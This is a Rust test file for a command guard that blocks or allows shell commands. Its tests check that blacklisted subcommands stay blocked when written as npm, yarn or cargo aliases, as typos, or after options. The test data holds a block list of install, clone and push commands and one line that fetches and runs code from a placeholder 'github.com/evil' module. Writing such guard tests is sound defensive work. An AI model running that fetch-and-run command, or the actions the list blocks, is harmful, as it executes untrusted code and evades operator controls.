//! Blocked rules that name a subcommand hold against the other ways the
//! tool runs it: its own aliases, script shorthands, options before the
//! subcommand. Allowed rules stay literal.

use super::option_harness::{fixture, guard};
use super::*;

fn blacklist() -> CommandGuard {
    guard(
        CommandMode::Blacklist,
        &[
            "git push",
            "git clone",
            "git add",
            "go run",
            "npm install",
            "npm run build",
            "npm test",
            "npm exec",
            "cargo build",
            "pip install",
            "yarn add",
            "yarn install",
            "yarn run lint",
        ],
    )
}

#[test]
fn aliases_of_a_blocked_subcommand_are_blocked() {
    let f = fixture();
    let g = blacklist();
    for cmd in [
        "npm i lodash",
        "npm isntall lodash",
        "npm add lodash",
        "npm rum build",
        "npm run-script build",
        "npm t",
        "npm tst",
        "npm run test",
        "npm x vite",
        "cargo b",
        "cargo b --release",
        "yarn",
        "yarn --frozen-lockfile",
        "yarn lint",
        "yarn lint --fix",
    ] {
        let a = g.analyze(cmd, &f.fs);
        assert_eq!((a.verdict, a.code), ("deny", "BLOCKED_COMMAND"), "{cmd}");
    }
}

#[test]
fn a_blocked_subcommand_after_options_is_not_allowed() {
    let f = fixture();
    let g = blacklist();
    for cmd in [
        "git -C . push origin master",
        "git --no-pager clone https://github.com/x/y z",
        "git --work-tree=. add notes.txt",
        "go -C . run github.com/evil/cmd@latest",
        "npm --silent install lodash",
        "npm --silent i lodash",
        "cargo -q build",
        "pip -q install requests",
        "yarn --silent add lodash",
        "yarn --silent lint",
    ] {
        let a = g.analyze(cmd, &f.fs);
        assert_ne!(a.verdict, "allow", "{cmd}");
        assert_eq!(a.code, "BLOCKED_COMMAND", "{cmd}");
    }
}

#[test]
fn other_subcommands_stay_allowed() {
    let f = fixture();
    let g = blacklist();
    for cmd in [
        "git status",
        "git -C . status",
        "git --no-pager log -3",
        "npm run lint",
        "npm ci",
        "npm start",
        "cargo check",
        "cargo -q test",
        "pip list",
        "yarn build",
        "yarn run build",
        "go test ./...",
    ] {
        let a = g.analyze(cmd, &f.fs);
        assert_ne!(a.code, "BLOCKED_COMMAND", "{cmd}: {}", a.verdict);
    }
}

#[test]
fn allowed_rules_stay_literal() {
    let f = fixture();
    let g = guard(
        CommandMode::Whitelist,
        &["npm install", "cargo build", "git push"],
    );
    for cmd in ["npm i", "cargo b", "git -C . push"] {
        let a = g.analyze(cmd, &f.fs);
        assert_eq!(
            (a.verdict, a.code),
            ("deny", "COMMAND_NOT_ALLOWED"),
            "{cmd}"
        );
    }
}
